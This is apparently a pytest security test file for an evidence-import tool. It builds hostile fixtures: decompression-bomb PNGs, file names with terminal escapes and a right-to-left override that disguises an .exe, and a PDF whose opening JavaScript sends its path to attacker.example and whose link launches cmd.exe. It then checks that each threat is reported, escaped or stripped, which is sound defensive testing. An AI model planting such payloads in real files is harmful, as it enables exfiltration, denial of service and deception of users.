"""Hostile evidence files: a picture declaring 900 megapixels, one of 169, names carrying terminal escape sequences
and right-to-left overrides, a PDF that runs JavaScript on opening and launches a program. Each is imported with a
clear message, nothing wedges the import journal, nothing we print or produce carries the attack on."""

from __future__ import annotations

import os
import struct
import subprocess
import sys
import zlib
from pathlib import Path

import pymupdf
import pytest

from casebridge.app import Workspace, build_services, open_workspace
from casebridge.redaction.active import find_active
from tests.security.test_hostile_packages import PEAK_LIMIT_MB, run

URN = "62CF0077726"


def _png(path: Path, width: int, height: int, bit_depth: int, colour_type: int, bits_per_pixel: int) -> Path:
    """A valid PNG of blank rows, written without ever holding the picture: tiny on disk, huge once decoded."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    row = b"\0" + bytes((width * bits_per_pixel + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(row) for _ in range(height)) + packer.flush()
    header = struct.pack(">IIBBBBB", width, height, bit_depth, colour_type, 0, 0, 0)
    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b""))
    return path


def _active_pdf(path: Path) -> Path:
    """A statement that runs JavaScript when opened, has a link that launches a program and a page action."""
    doc = pymupdf.open()
    page = doc.new_page()
    page.insert_text((72, 100), "Statement of John Smith, 14 Heol y Castell, Cardiff CF10 1AA.", fontsize=11)
    script = doc.get_new_xref()
    doc.update_object(script, "<< /S /JavaScript /JS (app.launchURL('https://attacker.example/?'+this.path);) >>")
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", f"{script} 0 R")
    page.insert_link({"kind": pymupdf.LINK_LAUNCH, "from": pymupdf.Rect(72, 120, 300, 140), "file": "cmd.exe"})
    doc.xref_set_key(page.xref, "AA", "<< /O << /S /JavaScript /JS (app.alert(1);) >> >>")
    doc.save(path)
    doc.close()
    return path


@pytest.fixture
def case_dir(tmp_path: Path) -> Path:
    ws = open_workspace(tmp_path / "ws")
    ws.cases.create_case(URN, title="Burglary, Heol y Castell")
    ws.cases.add_person(URN, {"role": "officer", "surname": "Evans", "forenames": "Sarah"})
    ws.close()
    return tmp_path / "ws"


def test_pictures_too_large_to_decode_are_kept_named_and_never_wedge_the_import(case_dir: Path, tmp_path: Path) -> None:
    bomb = _png(tmp_path / "bomb.png", 30000, 30000, 1, 0, 1)  # 900 megapixels in about 110 KB
    big = _png(tmp_path / "big.png", 13000, 13000, 8, 2, 24)  # 169 megapixels in about 500 KB
    assert bomb.stat().st_size < 200_000
    code, printed, peak = run(case_dir, "evidence", "import", URN, str(bomb), str(big), "--producer", "Sarah Evans")
    assert code == 0, printed
    assert "bomb.png imported as SE/1; note: bomb.png is a picture of 900 megapixels, more than the 100" in printed
    assert "big.png is a picture of 13000×13000 pixels (169 megapixels)" in printed
    assert "Traceback" not in printed
    assert "DecompressionBomb" not in printed
    assert peak < PEAK_LIMIT_MB, f"{peak} MB"
    code, printed, _peak = run(case_dir, "evidence", "resume")
    assert code == 0
    assert "0 finished, 0 failed" in printed  # nothing left pending
    ws = open_workspace(case_dir)
    try:
        for reference, name in (("SE/1", bomb), ("SE/2", big)):
            exhibit = ws.exhibits.find_by_reference(URN, reference)
            assert not exhibit.previewable
            assert ws.vault.path(exhibit.sha256).read_bytes() == name.read_bytes()  # kept exactly as supplied
        from casebridge.evidence.derivatives import thumbnail

        assert thumbnail(ws, ws.exhibits.find_by_reference(URN, "SE/1")) is None
    finally:
        ws.close()


def test_an_entry_that_cannot_complete_is_marked_failed_not_left_pending(
    case_dir: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import casebridge.evidence.importer as importer_module

    def broken(*_args: object, **_kwargs: object) -> object:
        raise MemoryError("the decoder ran out of memory")

    monkeypatch.setattr(importer_module, "probe", broken)
    source = tmp_path / "scan.png"
    source.write_bytes(b"\x89PNG\r\n\x1a\n")
    ws = open_workspace(case_dir)
    try:
        report = build_services(ws).importer.import_paths(URN, [source], producer="Sarah Evans")
        (outcome,) = report.outcomes
        assert outcome.status == "failed"
        assert "scan.png" in outcome.message
        assert build_services(ws).importer.pending(URN) == []
        assert build_services(ws).importer.resume().outcomes == []
    finally:
        ws.close()


def test_names_with_control_characters_are_escaped_in_everything_printed(case_dir: Path, tmp_path: Path) -> None:
    names = ["clear\x1b[2J\x1b[31mred.txt", "over\rwrite.txt", "invoice\u202etxt.exe", "bell\x07.txt"]
    for name in names:
        (tmp_path / name).write_text("evidence")
    code, printed, _peak = run(
        case_dir, "evidence", "import", URN, *(str(tmp_path / n) for n in names), "--producer", "Sarah Evans"
    )
    assert code == 0, printed
    for raw in ("\x1b", "\r", "\u202e", "\x07"):
        assert raw not in printed
    for shown in ("clear\\x1b[2J\\x1b[31mred.txt", "over\\rwrite.txt", "invoice\\u202etxt.exe", "bell\\x07.txt"):
        assert shown in printed
    listed = subprocess.run(
        [sys.executable, "-m", "casebridge", "evidence", "list", URN, "--json"],
        capture_output=True,
        text=True,
        env={**os.environ, "CASEBRIDGE_WORKSPACE": str(case_dir)},
        check=True,
    ).stdout
    assert "\x1b" not in listed
    assert "\u202e" not in listed


def test_active_content_is_reported_on_import_and_left_out_of_every_copy(case_dir: Path, tmp_path: Path) -> None:

    pdf = _active_pdf(tmp_path / "statement.pdf")
    with pymupdf.open(pdf) as doc:
        assert len(find_active(doc)) >= 3
    ws: Workspace = open_workspace(case_dir)
    try:
        report = build_services(ws).importer.import_paths(URN, [pdf], producer="Sarah Evans")
        (outcome,) = report.outcomes
        assert (
            "statement.pdf contains JavaScript, a launch action (starts a program or opens a file), an action on "
            "opening and actions on events: Casebridge never runs it" in outcome.message
        )
        assert "Casebridge never runs it" in outcome.message
        original = ws.exhibits.find_by_reference(URN, "SE/1")
        assert ws.vault.path(original.sha256).read_bytes() == pdf.read_bytes()  # the evidence itself is untouched
        assert original.facts["active_content"]

        service = build_services(ws).redaction
        suggestions = service.suggest(original)
        assert suggestions, "the name and address are suggested"
        copy = service.apply(original, service.accept(original, suggestions, approve=True)).copy
        copies = {"redacted copy": ws.vault.path(copy.sha256).read_bytes()}
        from casebridge.evidence.derivatives import make_searchable

        assert make_searchable(ws, original) is None  # Tesseract and OCRmyPDF: installed by dev.sh and CI
        searchable = ws.exhibits.derivative(original.sha256, "ocr")
        assert searchable is not None
        copies["searchable copy"] = ws.vault.path(searchable.sha256).read_bytes()
        assert searchable.recipe.get("active_content_removed")
        from casebridge.bundle.build import build_bundle
        from casebridge.forms.document import Audience

        bundle = build_bundle(ws, URN, Audience.CPS)
        assert any("SE/1" in row.key or "SE/1" in row.title for row in bundle.rows), bundle.rows
        copies["CPS bundle"] = bundle.pdf
        for what, data in copies.items():
            with pymupdf.open(stream=data, filetype="pdf") as doc:
                assert find_active(doc) == [], what
            for marker in (b"/JavaScript", b"/Launch", b"cmd.exe", b"attacker.example"):
                assert marker not in data, (what, marker)
    finally:
        ws.close()
